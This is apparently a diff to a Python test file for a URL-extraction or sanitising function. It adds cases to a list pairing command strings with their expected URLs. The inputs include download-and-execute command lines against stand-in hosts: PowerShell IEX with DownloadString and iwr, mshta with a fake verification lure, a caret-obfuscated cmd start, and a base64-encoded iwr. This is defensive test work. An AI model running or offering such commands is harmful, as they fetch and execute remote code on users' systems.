@@ -268,6 +268,8 @@ ENCODED = base64.b64encode("iwr https://hidden.example/p".encode("utf-16-le")).d
     ("mshta https://verify.example/a.mp3 # human", ["https://verify.example/a.mp3"]),
     ("cmd /c h^t^t^p://bad.example/x&&start y", ["http://bad.example/x"]),
     ("IEX(New-Object Net.WebClient).DownloadString('http://a.example/s')", ["http://a.example/s"]),
+    ("iex (iwr http://a.example/p).Content", ["http://a.example/p"]),
+    ("curl http://a.example/a_(b)/c", ["http://a.example/a_(b)/c"]),
     ("curl https://user:secret@a.example/x#part", ["https://a.example/x"]),
     ("curl https://a.example/x?id=7", ["https://a.example/x?id=7"]),
     ("curl https://a.example/x?password=Hunter2", ["https://a.example/x"]),
